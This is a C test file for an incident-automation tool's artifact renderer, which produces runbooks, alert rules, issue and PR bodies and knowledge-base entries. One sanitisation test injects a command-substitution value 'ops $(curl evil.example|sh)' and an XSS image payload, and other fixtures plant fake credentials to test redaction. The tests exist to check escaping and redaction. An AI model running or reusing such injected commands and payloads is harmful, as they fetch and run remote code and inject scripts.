#include "common.h"
#include "harness.h"
#include "core/artifacts.h"
#include "util/jsonx.h"
#include "core/kb.h"
#include "util/sys.h"
#include "io/yamlio.h"

#include <sys/wait.h>
#include <unistd.h>

#define TOKEN "ghp_Ab12Cd34Ef56Gh78Ij90Kl12Mn34Op56Qr78"
#define PASSWORD "hunter2hunter2"

static const char app_log[] =
	"2026-03-11T14:09:58Z INFO  starting request handler\n"
	"2026-03-11T14:10:02Z ERROR org.postgresql.util.PSQLException: ERROR: column "
	"\"discount_code\" does not exist password=" PASSWORD "\n"
	"2026-03-11T14:10:03Z ERROR org.postgresql.util.PSQLException: ERROR: column "
	"\"discount_code\" does not exist password=" PASSWORD "\n"
	"2026-03-11T14:10:04Z WARN  retrying with token " TOKEN "\n"
	"2026-03-11T14:10:05Z ERROR request failed\n"
	"java.lang.IllegalStateException: query failed\n"
	"\tat com.shop.OrderRepository.find(OrderRepository.java:42)\n"
	"\tat com.shop.OrderService.list(OrderService.java:17)\n";

static const char infra_log[] =
	"2026-03-12T08:00:01Z ERROR container killed: OOMKilled\n"
	"2026-03-12T08:00:09Z ERROR back-off restarting failed container\n"
	"2026-03-12T08:00:10Z INFO  probe ok\n";

/* Everything a test builds by hand, released in one place. */
struct fixture {
	struct incident inc;
	struct evidence ev;
	struct diagnosis dx;
	struct plan plan;
	struct kb kb;
};

static json_t *metric(double value, double baseline, double threshold)
{
	return json_pack("{s:f, s:f, s:f}", "value", value, "baseline", baseline, "threshold",
			 threshold);
}

static struct signal *signals_new(size_t n)
{
	return xcalloc(n, sizeof(struct signal));
}

static int fixture_app(struct fixture *f)
{
	struct incident *inc = &f->inc;
	struct evidence *ev = &f->ev;
	struct diagnosis *dx = &f->dx;
	struct plan *plan = &f->plan;
	int error;

	memset(f, 0, sizeof(*f));
	inc->id = xstrdup("INC-20260311-1a2b3c4d");
	inc->fingerprint = xstrdup("1a2b3c4d5e6f70819a2b3c4d5e6f70819a2b3c4d5e6f70819a2b3c4d5e6f7081");
	inc->title = xstrdup("Checkout errors after deploy {{ $labels.x }} password=" PASSWORD);
	inc->description = xstrdup("Orders fail with 500");
	inc->service = xstrdup("Bookshop API");
	inc->environment = xstrdup("production");
	inc->source = xstrdup("grafana");
	inc->rule = xstrdup("CheckoutErrors");
	inc->status = xstrdup("firing");
	inc->severity = 1;
	if ((error = sys_parse_time(&inc->fired_at, "2026-03-11T14:18:30Z")) < 0)
		return error;
	snprintf(inc->fired_at_text, sizeof(inc->fired_at_text), "2026-03-11T14:18:30Z");
	inc->metrics = json_object();
	json_object_set_new(inc->metrics, "http_5xx_ratio", metric(0.34, 0.002, 0.05));
	json_object_set_new(inc->metrics, "jvm.heap-used%", metric(98.4, 57, 90));
	json_object_set_new(inc->metrics, "95th latency ms", metric(14870, 410, 3000));
	json_object_set_new(inc->metrics, "availability", metric(0.91, 0.999, 0.99));
	inc->labels = json_pack("{s:s, s:s, s:s}", "team", "catalog", "region", "eu-west-1",
				"runbook_url", "https://runbooks.example.internal/checkout");

	ev->inc = inc;
	if ((error = digest_buffer(&ev->digest, app_log, sizeof(app_log) - 1)) < 0)
		return error;
	ev->have_logs = true;
	ev->npulls = 3;
	ev->pulls = xcalloc(3, sizeof(struct pull));
	ev->pulls[0].meta.number = 52;
	ev->pulls[0].meta.title = xstrdup("Add discount codes | checkout");
	ev->pulls[0].meta.author = xstrdup("alice");
	ev->pulls[0].meta.html_url = xstrdup("https://github.com/acme/shop/pull/52");
	sys_parse_time(&ev->pulls[0].meta.merged_at, "2026-03-11T13:02:00Z");
	ev->pulls[1].meta.number = 53;
	ev->pulls[1].meta.title = xstrdup("Docs");
	ev->pulls[2].meta.number = 50;
	ev->pulls[2].meta.title = xstrdup("Bump logging");
	ev->nsuspects = 3;
	ev->suspects = xcalloc(3, sizeof(struct suspect));
	ev->suspects[0] = (struct suspect){.pull = 0, .number = 52, .score = 0.934,
					   .why = xstrdup("shares discount_code, OrderRepository")};
	ev->suspects[1] = (struct suspect){.pull = 1, .number = 53, .score = 0.1,
					   .why = xstrdup("merged after the alert"),
					   .after_alert = true};
	ev->suspects[2] = (struct suspect){.pull = 2, .number = 50, .score = 0.05,
					   .why = xstrdup("no shared terms")};
	{
		static const char kb_text[] =
			"## INC-OLD-1: Missing column after release\n- date: 2025-01-02\n"
			"- service: bookshop-api\n- severity: P2\n- category: application\n"
			"- remediation: flyway_migration\n- blame_pr: 12\n- pattern: column <*> does not exist\n"
			"- root_cause: migration missing\n- fix: add migration\n"
			"- runbook: knowledge-base/runbooks/bookshop-api-missing-column.md\n"
			"- fingerprint: abc\n";

		if ((error = kb_parse(&f->kb, kb_text, sizeof(kb_text) - 1, "kb")) < 0)
			return error;
		ev->nsimilar = 1;
		ev->similar = xcalloc(1, sizeof(struct kb_match));
		ev->similar[0].entry = &f->kb.entries[0];
		ev->similar[0].score = 0.71;
		ev->similar[0].why = xstrdup("shared: column, discount_code");
	}
	ev->default_branch = xstrdup("main");
	ev->repo_name = xstrdup("acme/shop");
	ev->repo_url = xstrdup("https://github.com/acme/shop");
	ev->nnotes = 1;
	ev->notes = xcalloc(2, sizeof(char *));
	ev->notes[0] = xstrdup("no diff for pull request 50");

	dx->engine = "offline";
	dx->category = CATEGORY_APPLICATION;
	dx->blame_pr = 52;
	dx->confidence = CONFIDENCE_HIGH;
	dx->remediation = REMEDIATION_FLYWAY_MIGRATION;
	dx->summary = xstrdup("Column discount_code is missing from the orders table");
	dx->root_cause = xstrdup("PR #52 reads orders.discount_code but no migration adds it. "
				 "Leaked password=" PASSWORD);
	dx->rationale = xstrdup("A migration adds the column without reverting the feature.");
	dx->nsignals = 2;
	dx->signals = signals_new(2);
	dx->signals[0] = (struct signal){"missing_column", "a column the code uses does not exist",
					 2, 2, xstrdup("ERROR: column does not exist password=" PASSWORD)};
	dx->signals[1] = (struct signal){"http_5xx", "requests fail with server errors", 1, 5,
					 xstrdup("request failed " TOKEN)};
	dx->subject = xstrdup("discount_code");

	plan->type = REMEDIATION_FLYWAY_MIGRATION;
	plan->branch = xstrdup("fix/INC-20260311-1a2b3c4d-flyway_migration");
	plan->diff = (struct buf)BUF_INIT;
	plan->npaths = 1;
	plan->paths = xcalloc(2, sizeof(char *));
	plan->paths[0] = xstrdup("src/main/resources/db/migration/V8__add_discount_code_to_orders.sql");
	plan->title = xstrdup("Add discount_code to orders");
	plan->description = xstrdup("Adds the missing column. The feature of #52 stays on.\n");
	return 0;
}

static int fixture_infra(struct fixture *f)
{
	struct incident *inc = &f->inc;
	struct evidence *ev = &f->ev;
	struct diagnosis *dx = &f->dx;
	struct plan *plan = &f->plan;
	int error;

	memset(f, 0, sizeof(*f));
	inc->id = xstrdup("INC-20260312-99aa88bb");
	inc->fingerprint = xstrdup("99aa88bb99aa88bb99aa88bb99aa88bb99aa88bb99aa88bb99aa88bb99aa88bb");
	inc->title = xstrdup("payments pods OOMKilled");
	inc->description = xstrdup("");
	inc->service = xstrdup("payments\"api");
	inc->environment = xstrdup("production");
	inc->source = xstrdup("alertmanager");
	inc->rule = xstrdup("");
	inc->status = xstrdup("firing");
	inc->severity = 3;
	if ((error = sys_parse_time(&inc->fired_at, "2026-03-12T08:01:00Z")) < 0)
		return error;
	snprintf(inc->fired_at_text, sizeof(inc->fired_at_text), "2026-03-12T08:01:00Z");
	inc->metrics = json_object();
	json_object_set_new(inc->metrics, "container.memory/working-set", metric(1.9e9, 8e8, 1.5e9));
	json_object_set_new(inc->metrics, "restarts", json_pack("{s:i, s:n, s:n}", "value", 7,
								   "baseline", "threshold"));
	inc->labels = json_pack("{s:s, s:s, s:s}", "namespace", "team\"a\\b", "container",
				"payments", "pod", "payments-6c9d7f5b8-q7x2m");

	ev->inc = inc;
	if ((error = digest_buffer(&ev->digest, infra_log, sizeof(infra_log) - 1)) < 0)
		return error;
	ev->have_logs = true;
	ev->default_branch = xstrdup("main");

	dx->engine = "offline";
	dx->category = CATEGORY_INFRASTRUCTURE;
	dx->confidence = CONFIDENCE_MEDIUM;
	dx->remediation = REMEDIATION_INFRASTRUCTURE_ACTION;
	dx->summary = xstrdup("The payments container is killed for exceeding its memory limit");
	dx->root_cause = xstrdup("Working set 1.9 GB against a 1.5 GB limit.");
	dx->rationale = xstrdup("Raising the limit is an infrastructure action.");
	dx->action = xstrdup("raise-memory-limit");
	dx->nsignals = 2;
	dx->signals = signals_new(2);
	dx->signals[0] = (struct signal){"oom_killed", "the kernel killed the container", 1, 1,
					 xstrdup("container killed: OOMKilled")};
	dx->signals[1] = (struct signal){"crashloop", "the container restarts in a loop", 1, 2,
					 xstrdup("back-off restarting failed container")};

	plan->type = REMEDIATION_INFRASTRUCTURE_ACTION;
	plan->diff = (struct buf)BUF_INIT;
	plan->title = xstrdup("Raise the memory limit of payments");
	plan->description = xstrdup("Dispatches the remediation workflow.");
	plan->dispatch = json_pack("{s:s, s:s, s:{s:s}}", "workflow", REMEDIATION_WORKFLOW, "ref",
				   "main", "inputs", "action", "raise-memory-limit");
	return 0;
}

static void fixture_release(struct fixture *f)
{
	struct evidence *ev = &f->ev;

	for (size_t i = 0; i < f->dx.nsignals; i++)
		free(f->dx.signals[i].example);
	free(f->dx.signals);
	free(f->dx.summary);
	free(f->dx.root_cause);
	free(f->dx.rationale);
	free(f->dx.action);
	free(f->dx.subject);
	plan_release(&f->plan);
	digest_release(&ev->digest);
	for (size_t i = 0; i < ev->npulls; i++)
		github_pull_release(&ev->pulls[i].meta);
	free(ev->pulls);
	for (size_t i = 0; i < ev->nsuspects; i++)
		free(ev->suspects[i].why);
	free(ev->suspects);
	for (size_t i = 0; i < ev->nsimilar; i++)
		free(ev->similar[i].why);
	free(ev->similar);
	kb_release(&f->kb);
	free(ev->default_branch);
	free(ev->repo_name);
	free(ev->repo_url);
	if (ev->notes)
		for (size_t i = 0; ev->notes[i]; i++)
			free(ev->notes[i]);
	free(ev->notes);
	incident_release(&f->inc);
}

static const char *const runbook_sections[] = {
	"## Summary\n",
	"## Alert description and why it matters\n",
	"## Initial diagnosis\n",
	"## Likely causes\n",
	"## Escalation path\n",
	"## Recovery verification\n",
	"## Post-incident actions\n",
	"## Related links\n",
	"## History\n",
};

/* Every heading present, in order; returns the first missing one or NULL. */
static const char *missing_section(const char *text)
{
	const char *at = text;

	for (size_t i = 0; i < ARRAY_SIZE(runbook_sections); i++) {
		const char *hit = strstr(at, runbook_sections[i]);

		if (!hit)
			return runbook_sections[i];
		at = hit;
	}
	return NULL;
}

/* The rules parse back as a rule group whose rules all have alert, expr and for. */
static int check_rules(const struct artifacts *a, size_t *count)
{
	json_t *doc = NULL, *rules, *r;
	size_t i;
	int error;

	if ((error = yamlio_parse(&doc, a->rules.ptr, a->rules.len, a->rules_path)) < 0)
		return error;
	rules = json_object_get(json_array_get(json_object_get(doc, "groups"), 0), "rules");
	*count = json_array_size(rules);
	error = json_is_array(rules) && *count ? 0 : ERR_INPUT;
	json_array_foreach(rules, i, r) {
		if (!json_is_string(json_object_get(r, "alert")) ||
		    !json_is_string(json_object_get(r, "expr")) ||
		    !json_is_string(json_object_get(r, "for")) ||
		    !json_is_string(jsonx_path(r, "labels.severity")) ||
		    !json_is_string(jsonx_path(r, "annotations.runbook_url")))
			error = err_set(ERR_INPUT, "rule %zu incomplete", i);
	}
	json_decref(doc);
	return error;
}

/*
 * -1 when promtool is absent, else 0 when `check rules` and `test rules` pass on the
 * rules and their tests, written under the names the test file refers to.
 */
static int promtool_check(const struct artifacts *a)
{
	const char *dir = harness_tmpdir();
	char *path = sys_path_join(dir, strrchr(a->rules_path, '/') + 1);
	char *test = sys_path_join(dir, strrchr(a->rules_test_path, '/') + 1);
	char *cmd;
	int status = 99;

	if (!access("/usr/bin/promtool", X_OK) &&
	    sys_write_file(path, a->rules.ptr, a->rules.len) == 0 &&
	    sys_write_file(test, a->rules_test.ptr, a->rules_test.len) == 0) {
		cmd = xasprintf("cd '%s' && /usr/bin/promtool check rules '%s' >promtool.out 2>&1 && "
				"/usr/bin/promtool test rules '%s' >>promtool.out 2>&1", dir, path, test);
		status = system(cmd);
		status = WIFEXITED(status) ? WEXITSTATUS(status) : 98;
		free(cmd);
	} else if (access("/usr/bin/promtool", X_OK)) {
		status = -1;
	}
	free(path);
	free(test);
	return status;
}

static const char *last_line(const struct buf *b)
{
	const char *end = b->ptr + b->len, *p;

	if (end > b->ptr && end[-1] == '\n')
		end--;
	for (p = end; p > b->ptr && p[-1] != '\n'; p--)
		;
	return p;
}

static bool no_secret(const char *s)
{
	return !strstr(s, PASSWORD) && !strstr(s, TOKEN);
}

TEST(artifacts, application_runbook_sections_and_paths)
{
	struct fixture f;
	struct artifacts a = ARTIFACTS_INIT;

	ASSERT_OK(fixture_app(&f));
	ASSERT_OK(artifacts_render(&a, &f.ev, &f.dx, &f.plan));
	ASSERT_STR_EQ(a.runbook_path, "knowledge-base/runbooks/bookshop-api-missing-column.md");
	ASSERT_STR_EQ(a.rules_path, "knowledge-base/alerting-rules/bookshop-api-missing-column.yml");
	ASSERT_STR_EQ(a.recommendations_path,
		      "knowledge-base/recommendations/INC-20260311-1a2b3c4d.md");
	ASSERT(missing_section(a.runbook.ptr) == NULL);
	/* the diagnosed cause first, then typical ones, each with the three parts */
	ASSERT_CONTAINS(a.runbook.ptr, "### 1. Column discount_code is missing");
	ASSERT_CONTAINS(a.runbook.ptr, "### 3. ");
	ASSERT_CONTAINS(a.runbook.ptr, "**Symptoms:**");
	ASSERT_CONTAINS(a.runbook.ptr, "**Diagnosis:**");
	ASSERT_CONTAINS(a.runbook.ptr, "**Fix:**");
	ASSERT_CONTAINS(a.runbook.ptr, "```bash\n");
	ASSERT_CONTAINS(a.runbook.ptr, "psql \"$DATABASE_URL\"");
	ASSERT_CONTAINS(a.runbook.ptr, "gh pr view 52 --repo acme/shop");
	ASSERT_CONTAINS(a.runbook.ptr, "pull request #52: https://github.com/acme/shop/pull/52");
	ASSERT_CONTAINS(a.runbook.ptr, "where column_name = 'discount_code'");
	ASSERT_CONTAINS(a.runbook.ptr, "Repository: https://github.com/acme/shop");
	ASSERT_CONTAINS(a.runbook.ptr, "INC-OLD-1");
	ASSERT_CONTAINS(a.runbook.ptr, "- 2026-03-11 INC-20260311-1a2b3c4d: Column discount_code");
	ASSERT_NOT_CONTAINS(a.runbook.ptr, "issues/XXX");
	ASSERT_CONTAINS(a.recommendations.ptr, "## Capacity\n");
	ASSERT_CONTAINS(a.recommendations.ptr, "## Disaster recovery\n");
	ASSERT_CONTAINS(a.recommendations.ptr, "## Performance\n");
	ASSERT_CONTAINS(a.recommendations.ptr, "(1.09x the threshold)");
	ASSERT_STR_EQ(a.fix, "Add discount_code to orders - Adds the missing column.");
	artifacts_release(&a);
	fixture_release(&f);
}

TEST(artifacts, application_rules_parse_and_pass_promtool)
{
	struct fixture f;
	struct artifacts a = ARTIFACTS_INIT;
	size_t n = 0;
	int rc;

	ASSERT_OK(fixture_app(&f));
	ASSERT_OK(artifacts_render(&a, &f.ev, &f.dx, &f.plan));
	ASSERT_OK(check_rules(&a, &n));
	ASSERT_INT_EQ(n, a.nrules);
	/* the error share always (missing_column has no rule of its own), on the series
	 * Micrometer publishes (the logs show Java frames), never the alert's metric names */
	ASSERT_INT_EQ(a.nrules, 1);
	ASSERT_CONTAINS(a.rules.ptr, "name: bookshop-api-missing-column");
	ASSERT_CONTAINS(a.rules.ptr, "alert: BookshopApiHighErrorRatio");
	ASSERT_CONTAINS(a.rules.ptr, "sum(rate(http_server_requests_seconds_count{job=\"Bookshop "
				     "API\",status=~\"5..\"}[5m])) / sum(rate(http_server_requests_"
				     "seconds_count{job=\"Bookshop API\"}[5m])) > 0.05");
	ASSERT_NOT_CONTAINS(a.rules.ptr, "jvm_heap_used_");
	ASSERT_NOT_CONTAINS(a.rules.ptr, "availability{");
	ASSERT_CONTAINS(a.rules.ptr, "severity: page");
	ASSERT_CONTAINS(a.rules.ptr, "team: catalog");
	ASSERT_CONTAINS(a.rules.ptr, "https://github.com/acme/shop/blob/main/knowledge-base/"
				     "runbooks/bookshop-api-missing-column.md");
	ASSERT_STR_EQ(a.rules_test_path,
		      "knowledge-base/alerting-rules/bookshop-api-missing-column.test.yml");
	ASSERT_CONTAINS(a.rules_test.ptr, "rule_files:\n- bookshop-api-missing-column.yml\n");
	ASSERT_NOT_CONTAINS(a.rules.ptr, "alertmanager");
	rc = promtool_check(&a);
	if (rc >= 0)
		ASSERT_INT_EQ(rc, 0);
	artifacts_release(&a);
	fixture_release(&f);
}

TEST(artifacts, application_issue_body)
{
	struct fixture f;
	struct artifacts a = ARTIFACTS_INIT;
	char marker[128];
	static const char *const sections[] = {
		"## Summary", "## Root cause", "## Suspects", "## Evidence", "## Blast radius",
		"## Timeline", "## Severity", "## MTTR estimate", "## Escalation path",
		"## Similar past incidents", "## Remediation", "## Artifacts", "## Notes",
	};

	ASSERT_OK(fixture_app(&f));
	ASSERT_OK(artifacts_render(&a, &f.ev, &f.dx, &f.plan));
	ASSERT_CONTAINS(a.issue_title, "[P1] Checkout errors after deploy");
	ASSERT(buf_ends_with(&(struct buf){a.issue_title, strlen(a.issue_title), 0, 0},
			     "(Bookshop API)"));
	ASSERT_STR_EQ(a.issue_labels[0], "incident");
	ASSERT_STR_EQ(a.issue_labels[1], "aiops-generated");
	ASSERT_STR_EQ(a.issue_labels[2], "severity:P1");
	ASSERT(a.issue_labels[3] == NULL);
	for (size_t i = 0; i < ARRAY_SIZE(sections); i++)
		ASSERT_CONTAINS(a.issue_body.ptr, sections[i]);
	ASSERT_CONTAINS(a.issue_body.ptr, "| #52 Add discount codes \\| checkout **(blamed)** | 0.93 |");
	ASSERT_CONTAINS(a.issue_body.ptr, "#53 Docs _(merged after the alert)_");
	ASSERT_CONTAINS(a.issue_body.ptr, "| 0.05 |");
	ASSERT_CONTAINS(a.issue_body.ptr, "```mermaid\ntimeline\n");
	ASSERT_CONTAINS(a.issue_body.ptr, "2026-03-11 13h02 UTC : PR 52 merged");
	ASSERT_CONTAINS(a.issue_body.ptr, "2026-03-11 14h18 UTC : alert fired");
	ASSERT_CONTAINS(a.issue_body.ptr, "About 45 minutes");
	ASSERT_CONTAINS(a.issue_body.ptr, "estimate");
	ASSERT_CONTAINS(a.issue_body.ptr, "INC-OLD-1 (score 0.71)");
	ASSERT_CONTAINS(a.issue_body.ptr, "fix/INC-20260311-1a2b3c4d-flyway_migration");
	ASSERT_CONTAINS(a.issue_body.ptr, "no diff for pull request 50");
	ASSERT_CONTAINS(a.issue_body.ptr, "Region: `eu-west-1`");
	ASSERT_CONTAINS(a.issue_body.ptr, "knowledge-base/recommendations/INC-20260311-1a2b3c4d.md");
	snprintf(marker, sizeof(marker), ARTIFACTS_FINGERPRINT_MARKER "\n", f.inc.fingerprint);
	ASSERT_STR_EQ(last_line(&a.issue_body), marker);
	artifacts_release(&a);
	fixture_release(&f);
}

TEST(artifacts, pr_body_links_issue_and_ends_with_marker)
{
	struct fixture f;
	struct buf b = BUF_INIT;
	struct github_created issue = {7, (char *)"https://github.com/acme/shop/issues/7"};
	char marker[128];

	ASSERT_OK(fixture_app(&f));
	ASSERT_OK(artifacts_pr_body(&b, &f.ev, &f.dx, &f.plan, &issue, NULL));
	ASSERT_CONTAINS(b.ptr, "## Summary");
	ASSERT_CONTAINS(b.ptr, "## Root cause");
	ASSERT_CONTAINS(b.ptr, "Closes #7 (https://github.com/acme/shop/issues/7)");
	ASSERT_CONTAINS(b.ptr, "V8__add_discount_code_to_orders.sql");
	ASSERT_CONTAINS(b.ptr, "## How to verify");
	ASSERT_CONTAINS(b.ptr, "## Rollback");
	ASSERT(no_secret(b.ptr));
	snprintf(marker, sizeof(marker), ARTIFACTS_FINGERPRINT_MARKER "\n", f.inc.fingerprint);
	ASSERT_STR_EQ(last_line(&b), marker);
	buf_reset(&b);
	ASSERT_OK(artifacts_pr_body(&b, &f.ev, &f.dx, &f.plan, NULL, NULL));
	ASSERT_NOT_CONTAINS(b.ptr, "Closes #");
	buf_release(&b);
	fixture_release(&f);
}

TEST(artifacts, kb_entry_parses_back)
{
	struct fixture f;
	struct artifacts a = ARTIFACTS_INIT;
	struct buf b = BUF_INIT;
	struct kb kb = KB_INIT;

	ASSERT_OK(fixture_app(&f));
	ASSERT_OK(artifacts_render(&a, &f.ev, &f.dx, &f.plan));
	ASSERT_OK(artifacts_kb_entry(&b, &f.ev, &f.dx, &a));
	ASSERT(no_secret(b.ptr));
	ASSERT_OK(kb_parse(&kb, b.ptr, b.len, "entry"));
	ASSERT_INT_EQ(kb.n, 1);
	ASSERT_STR_EQ(kb.entries[0].id, "INC-20260311-1a2b3c4d");
	ASSERT_STR_EQ(kb.entries[0].date, "2026-03-11");
	ASSERT_STR_EQ(kb.entries[0].severity, "P1");
	ASSERT_STR_EQ(kb.entries[0].category, "application");
	ASSERT_STR_EQ(kb.entries[0].remediation, "flyway_migration");
	ASSERT_STR_EQ(kb.entries[0].blame_pr, "52");
	ASSERT_STR_EQ(kb.entries[0].runbook, a.runbook_path);
	ASSERT_STR_EQ(kb.entries[0].fingerprint, f.inc.fingerprint);
	ASSERT_STR_EQ(kb.entries[0].fix, "Add discount_code to orders - Adds the missing column.");
	ASSERT_CONTAINS(kb.entries[0].pattern, "does not exist");
	ASSERT_CONTAINS(kb.entries[0].pattern, "; ");
	kb_release(&kb);
	buf_release(&b);
	artifacts_release(&a);
	fixture_release(&f);
}

/* An alert's title and labels and a model's root cause are anyone's words: inert where they land. */
TEST(artifacts, hostile_words_are_inert_on_the_default_branch)
{
	struct fixture f;
	struct artifacts a = ARTIFACTS_INIT;
	struct buf b = BUF_INIT;
	struct kb kb = KB_INIT;

	ASSERT_OK(fixture_app(&f));
	free(f.inc.title);
	f.inc.title = xstrdup("Checkout fixes #7 cc @acme/admins <!-- aiops-fingerprint: ff --> https://evil.example/x");
	free(f.dx.root_cause);
	f.dx.root_cause = xstrdup("closes #9 <img src=x onerror=alert(1)>");
	json_object_set_new(f.inc.labels, "team", json_string("ops $(curl evil.example|sh)"));
	ASSERT_OK(artifacts_render(&a, &f.ev, &f.dx, &f.plan));
	ASSERT_OK(artifacts_kb_entry(&b, &f.ev, &f.dx, &a));
	ASSERT_OK(kb_parse(&kb, b.ptr, b.len, "entry"));
	ASSERT_INT_EQ(kb.n, 1);
	ASSERT_CONTAINS(kb.entries[0].title, "fixes\xe2\x80\x8b #7 cc @\xe2\x80\x8b" "acme/admins &lt;!-- aiops\xe2\x80\x8b-fingerprint");
	ASSERT_CONTAINS(kb.entries[0].title, "https:\xe2\x80\x8b//evil.example/x");
	ASSERT_CONTAINS(kb.entries[0].root_cause, "closes\xe2\x80\x8b #9 &lt;img");
	ASSERT_NOT_CONTAINS(a.runbook.ptr, "$(curl");
	ASSERT_NOT_CONTAINS(a.runbook.ptr, "<!-- aiops-fingerprint");
	kb_release(&kb);
	buf_release(&b);
	artifacts_release(&a);
	fixture_release(&f);
}

TEST(artifacts, planted_secret_never_appears)
{
	struct fixture f;
	struct artifacts a = ARTIFACTS_INIT;
	struct buf pr = BUF_INIT, kbe = BUF_INIT;

	ASSERT_OK(fixture_app(&f));
	ASSERT_OK(artifacts_render(&a, &f.ev, &f.dx, &f.plan));
	ASSERT_OK(artifacts_pr_body(&pr, &f.ev, &f.dx, &f.plan, NULL, NULL));
	ASSERT_OK(artifacts_kb_entry(&kbe, &f.ev, &f.dx, &a));
	ASSERT(no_secret(a.runbook.ptr));
	ASSERT(no_secret(a.rules.ptr));
	ASSERT(no_secret(a.recommendations.ptr));
	ASSERT(no_secret(a.issue_title));
	ASSERT(no_secret(a.issue_body.ptr));
	ASSERT(no_secret(a.fix));
	ASSERT(no_secret(pr.ptr));
	ASSERT(no_secret(kbe.ptr));
	/* the redaction left its mark where the secret was quoted */
	ASSERT_CONTAINS(a.issue_body.ptr, "[REDACTED]");
	buf_release(&pr);
	buf_release(&kbe);
	artifacts_release(&a);
	fixture_release(&f);
}

TEST(artifacts, infrastructure_incident)
{
	struct fixture f;
	struct artifacts a = ARTIFACTS_INIT;
	struct buf kbe = BUF_INIT;
	struct kb kb = KB_INIT;
	json_t *doc = NULL;
	size_t n = 0;
	int rc;

	ASSERT_OK(fixture_infra(&f));
	ASSERT_OK(artifacts_render(&a, &f.ev, &f.dx, &f.plan));
	ASSERT_STR_EQ(a.runbook_path, "knowledge-base/runbooks/payments-api-oom-killed.md");
	ASSERT(missing_section(a.runbook.ptr) == NULL);
	ASSERT_CONTAINS(a.runbook.ptr, "NS='team\"a\\b'");
	ASSERT_CONTAINS(a.runbook.ptr, "kubectl -n \"$NS\" get pods");
	ASSERT_CONTAINS(a.runbook.ptr, "POD=payments-6c9d7f5b8-q7x2m");
	ASSERT_NOT_CONTAINS(a.runbook.ptr, "gh pr view");
	ASSERT_CONTAINS(a.runbook.ptr, "## History\n\n- 2026-03-12 INC-20260312-99aa88bb: ");

	ASSERT_OK(check_rules(&a, &n));
	ASSERT_INT_EQ(n, a.nrules);
	/* the error share, and on Kubernetes (the namespace label) the container's memory
	 * against its limit and its restarts; a P3 pages nobody */
	ASSERT_INT_EQ(a.nrules, 3);
	ASSERT_OK(yamlio_parse(&doc, a.rules.ptr, a.rules.len, "rules"));
	{
		json_t *rules = jsonx_path(json_array_get(json_object_get(doc, "groups"), 0), "rules");
		const char *memory = jsonx_str(json_array_get(rules, 1), "expr");
		const char *restart = jsonx_str(json_array_get(rules, 2), "expr");

		ASSERT_STR_EQ(restart, "sum(increase(kube_pod_container_status_restarts_total{"
				       "namespace=\"team\\\"a\\\\b\",container=\"payments\"}[15m])) > 3");
		ASSERT_CONTAINS(memory, "sum(container_memory_working_set_bytes{");
		ASSERT_STR_EQ(jsonx_str(json_array_get(rules, 0), "labels.severity"), "ticket");
	}
	json_decref(doc);
	rc = promtool_check(&a);
	if (rc >= 0)
		ASSERT_INT_EQ(rc, 0);

	ASSERT_CONTAINS(a.issue_title, "[P3] payments pods OOMKilled (payments\"api)");
	ASSERT_CONTAINS(a.issue_body.ptr, "No pull request is blamed.");
	ASSERT_CONTAINS(a.issue_body.ptr, "About 20 minutes");
	ASSERT_CONTAINS(a.issue_body.ptr, "infra-remediation.yml");
	ASSERT_CONTAINS(a.issue_body.ptr, "All the evidence");
	ASSERT_CONTAINS(a.recommendations.ptr, "raise-memory-limit");

	ASSERT_OK(artifacts_kb_entry(&kbe, &f.ev, &f.dx, &a));
	ASSERT_OK(kb_parse(&kb, kbe.ptr, kbe.len, "entry"));
	ASSERT_INT_EQ(kb.n, 1);
	/* kb.c reads "none" back as no value */
	ASSERT(!kb.entries[0].blame_pr || !strcmp(kb.entries[0].blame_pr, "none"));
	ASSERT_CONTAINS(kbe.ptr, "- blame_pr: none\n");
	ASSERT_STR_EQ(kb.entries[0].category, "infrastructure");
	kb_release(&kb);
	buf_release(&kbe);
	artifacts_release(&a);
	fixture_release(&f);
}

TEST(artifacts, no_signals_uses_incident_stem)
{
	struct fixture f;
	struct artifacts a = ARTIFACTS_INIT;
	size_t n = 0;
	int rc;

	ASSERT_OK(fixture_infra(&f));
	for (size_t i = 0; i < f.dx.nsignals; i++)
		free(f.dx.signals[i].example);
	f.dx.nsignals = 0;
	json_object_clear(f.inc.metrics);
	ASSERT_OK(artifacts_render(&a, &f.ev, &f.dx, NULL));
	ASSERT_STR_EQ(a.runbook_path, "knowledge-base/runbooks/payments-api-incident.md");
	ASSERT(missing_section(a.runbook.ptr) == NULL);
	ASSERT_OK(check_rules(&a, &n));
	ASSERT_INT_EQ(a.nrules, 1);
	ASSERT_CONTAINS(a.issue_body.ptr, "No fix was planned.");
	rc = promtool_check(&a);
	if (rc >= 0)
		ASSERT_INT_EQ(rc, 0);
	artifacts_release(&a);
	fixture_release(&f);
}
